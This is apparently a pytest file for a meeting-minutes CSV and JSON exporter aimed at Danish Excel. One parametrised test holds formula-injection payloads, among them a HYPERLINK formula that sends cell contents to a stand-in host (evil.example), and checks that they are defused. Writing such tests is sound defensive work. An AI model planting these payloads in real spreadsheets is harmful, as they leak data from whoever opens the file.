"""CSV for Danish Excel (BOM, semicolons), formula neutralisation, JSON twin."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pytest

from server.minutes.csv import BOM, actions_csv, decisions_csv, neutralise, to_json, write_csv
from server.minutes.model import Action, Decision, Minutes


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM.encode("utf-8"))
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_decisions_csv(kvifa: Minutes) -> None:
    data = decisions_csv(kvifa)
    assert data[:3] == b"\xef\xbb\xbf"
    rows = rows_of(data)
    assert rows[0] == ["Nr.", "Beslutning", "Besluttet af", "Punkt", "Redigeret", "Referat", "Dato"]
    assert rows[1][1].startswith("Sagsejer indkalder til netværksmøde")
    assert rows[2][4] == "ja" and rows[1][4] == "nej"
    assert rows[1][5:] == ["Faglig sparring om Sag 17", "2025-03-04"]
    assert b"\r\n" in data


def test_actions_csv(kvifa: Minutes) -> None:
    rows = rows_of(actions_csv(kvifa))
    assert rows[0][:4] == ["Nr.", "Handling", "Ansvarlig", "Frist"]
    assert rows[1][:4] == [
        "1",
        "Indkalde til netværksmøde med skole og PPR",
        "Mette Søgaard",
        "2025-03-18",
    ]
    assert rows[3][2] == "Jørgen Ålund"


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_formula_cells_are_neutralised(kvifa: Minutes, payload: str) -> None:
    minutes = dataclasses.replace(
        kvifa,
        decisions=(Decision(payload, decided_by=payload, step_title=payload),),
        actions=(Action(payload, who=payload),),
    )
    for data in (decisions_csv(minutes), actions_csv(minutes)):
        for row in rows_of(data)[1:]:
            for cell in row[1:4]:
                if cell:
                    assert cell.startswith("'"), cell
    assert neutralise(payload).startswith("'")


def test_harmless_cells_are_untouched() -> None:
    for cell in ("Sag 17", "Børn & Unge", "2025-03-18", "1", "", "a=b", "e-mail"):
        assert neutralise(cell) == cell


def test_write_csv_quotes_semicolons_and_newlines() -> None:
    rows = rows_of(write_csv(["a", "b"], [["x;y", "linje 1\nlinje 2"]]))
    assert rows == [["a", "b"], ["x;y", "linje 1\nlinje 2"]]


def test_json_twin(workshop: Minutes) -> None:
    data = json.loads(to_json(workshop))
    assert data["date"] == "2025-05-20"
    assert data["session_type"] == "implementation"
    assert [d["text"] for d in data["decisions"]][
        3
    ] == "Planen forelægges styregruppen den 12. juni."
    assert data["decisions"][2]["edited"] is True
    assert data["actions"][3] == {
        "what": "Planlægge temadag om barnets perspektiv",
        "who": "Bjørn Kæmpe",
        "due": None,
    }
    assert "ø" in to_json(workshop)  # not \u00f8-escaped
